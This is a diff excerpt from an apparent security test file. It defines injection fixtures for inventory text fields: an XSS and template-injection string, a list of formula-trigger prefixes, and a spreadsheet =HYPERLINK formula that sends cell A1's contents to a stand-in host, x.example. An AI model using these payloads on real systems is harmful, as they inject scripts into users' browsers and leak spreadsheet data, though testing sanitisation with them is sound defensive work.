@@ -38,7 +38,7 @@ SCRIPT = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'{{7*7}}"
 EVIL = f'=HYPERLINK("http://x.example/?"&A1;"a"){SCRIPT}'
 TEXTS = {"name", "title", "operator", "role", "holder", "address_text", "model", "note", "source"}
 """Keys of the inventory below which anything may be written; a contact is added to each site."""
-ASKED = {"site": "don", "unit": "xa-don", "id": "hop-tinh", "token": "none"}
+ASKED = {"site": "don", "unit": "xa-don", "id": "hop-tinh", "token": "none", "alert": "GovnetEvent"}
 FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
 PATHS = sorted(
     path for method, path in RULES if method == "GET" and path not in {"/events", "/room/{token}"}
